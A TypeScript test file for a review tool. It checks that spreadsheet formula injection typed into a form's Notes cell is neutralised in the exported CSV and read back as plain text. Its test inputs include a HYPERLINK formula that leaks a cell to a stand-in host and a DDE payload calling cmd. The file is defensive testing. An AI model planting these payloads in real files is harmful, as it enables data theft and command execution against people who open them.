/**
 * Formula injection through returned forms and CSVs. A worker types a formula-looking text into a form's
 * Notes cell; `collect` writes it to ratings.csv neutralised (a leading apostrophe), so a spreadsheet opening
 * that CSV shows text, never a live formula (checked with LibreOffice, which does evaluate formulas in a
 * CSV it opens: the unneutralised file is opened too, to show the check can fail). `build` reading the CSV
 * back puts exactly the typed text into the workbook, as text.
 */
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import ExcelJS from 'exceljs';
import { buildCommand } from '../../src/cli/build';
import { CliIO } from '../../src/cli/io';
import { collectCommand, formsCommand } from '../../src/cli/forms';
import { neutraliseFormula, restoreFormulaText, writeCsv } from '../../src/domain/csv';
import { FORM_LAYOUT } from '../../src/workbook/forms';
import { recalculate } from '../support/libreoffice';

const root = path.join(__dirname, '../..');
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'pps-injection-'));
const TEAM = path.join(root, 'data/sample/team.csv');

const PAYLOADS = [
  '=HYPERLINK("http://example.invalid/?leak="&B2,"see notes")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  "''@x",
];

async function run(cmd: (args: string[], io: CliIO) => Promise<number>, args: string[]) {
  const out: string[] = [];
  const err: string[] = [];
  const code = await cmd(args, { out: (l) => out.push(l), err: (l) => err.push(l), cwd: tmp });
  return { code, out: out.join('\n'), err: err.join('\n') };
}

/** Every cell of a workbook: address -> { formula?, value }. */
async function cells(xlsx: string): Promise<Map<string, { formula?: string; value: unknown }>> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(xlsx);
  const out = new Map<string, { formula?: string; value: unknown }>();
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        const v = cell.value as { formula?: string; sharedFormula?: string } | null;
        const formula = v && typeof v === 'object' ? (v.formula ?? v.sharedFormula) : undefined;
        out.set(`${ws.name}!${cell.address}`, formula ? { formula, value: v } : { value: cell.value });
      }),
    ),
  );
  return out;
}

describe('neutralising and restoring', () => {
  test.each(PAYLOADS)('%j: written with a leading apostrophe, read back exactly', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
    expect(restoreFormulaText(neutraliseFormula(text))).toBe(text);
  });

  test('ordinary text, and an apostrophe before ordinary text, are left as they are', () => {
    for (const text of ['Big gap, talk about it', "'tis fine", "O'Neil", '', '1-5 scale', 'a=b'])
      expect([neutraliseFormula(text), restoreFormulaText(text)]).toEqual([text, text]);
  });

  test('numbers stay numbers: a negative number is not quoted', () => {
    expect(writeCsv(['n', 'text'], [[-5, '-5']], { bom: false })).toBe("n,text\n-5,'-5\n");
    expect(writeCsv(['t'], [['\t=1']], { bom: false })).toBe('t\n"\'\t=1"\n');
  });
});

describe('a returned form with formula text in its Notes', () => {
  const note = PAYLOADS[0];
  const dde = PAYLOADS[1];
  let csv: string;

  beforeAll(async () => {
    const forms = path.join(tmp, 'forms');
    expect(
      (
        await run(formsCommand, [
          '--team',
          TEAM,
          '--period',
          '2026 Q4',
          '--worker',
          'PS-101',
          '--out-dir',
          forms,
        ])
      ).code,
    ).toBe(0);
    const file = path.join(forms, fs.readdirSync(forms)[0]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const ws = wb.worksheets.find((w) => w.state === 'visible')!;
    const first = FORM_LAYOUT.firstDataRow + 1;
    ws.getCell(first, FORM_LAYOUT.col.self + 1).value = 3;
    ws.getCell(first, FORM_LAYOUT.col.notes + 1).value = note; // text, as Excel stores '=... typed
    ws.getCell(first + 1, FORM_LAYOUT.col.self + 1).value = 4;
    ws.getCell(first + 1, FORM_LAYOUT.col.notes + 1).value = dde;
    await wb.xlsx.writeFile(file);
    csv = path.join(tmp, 'ratings.csv');
    const r = await run(collectCommand, [file, '--team', TEAM, '--out', csv]);
    expect(r.err).toBe('');
    expect(r.code).toBe(0);
  });

  test('collect writes the notes neutralised', () => {
    const text = fs.readFileSync(csv, 'utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://example.invalid/?leak=""&B2,""see notes"")"`);
    expect(text).toContain(`,'@SUM(1+1)*cmd|' /C calc'!A0\n`);
    expect(text).not.toMatch(/(^|,)"?[=@+-]/m);
  });

  test('a spreadsheet opening the CSV shows text, where the raw CSV would have run formulas', async () => {
    // The same rows written the way collect did before: LibreOffice turns them into formulas.
    const raw = path.join(tmp, 'raw.csv');
    fs.writeFileSync(raw, `notes\n"${note.replace(/"/g, '""')}"\n${dde}\n`);
    const rawCells = [...(await cells(await recalculate(raw, path.join(tmp, 'lo-raw')))).values()];
    expect(rawCells.some((c) => c.formula)).toBe(true);

    const opened = await cells(await recalculate(csv, path.join(tmp, 'lo')));
    const formulas = [...opened].filter(([, c]) => c.formula);
    expect(formulas).toEqual([]);
    const texts = [...opened.values()].map((c) => c.value);
    expect(texts).toContain(`'${note}`);
    expect(texts).toContain(`'${dde}`);
  });

  test('build reading that CSV writes exactly the typed text into the workbook, as text', async () => {
    const out = path.join(tmp, 'book.xlsx');
    const r = await run(buildCommand, ['--team', TEAM, '--ratings', csv, '--out', out]);
    expect(r.err).toBe('');
    expect(r.code).toBe(0);
    // after LibreOffice opened and saved it: still text, not a formula
    const book = await cells(await recalculate(out, path.join(tmp, 'lo-book')));
    const hits = [...book.values()].filter((c) => c.value === note || c.value === dde);
    expect(hits).toHaveLength(2);
    expect([...book.values()].filter((c) => c.formula && /HYPERLINK|cmd\|/.test(c.formula))).toEqual([]);
  });
});
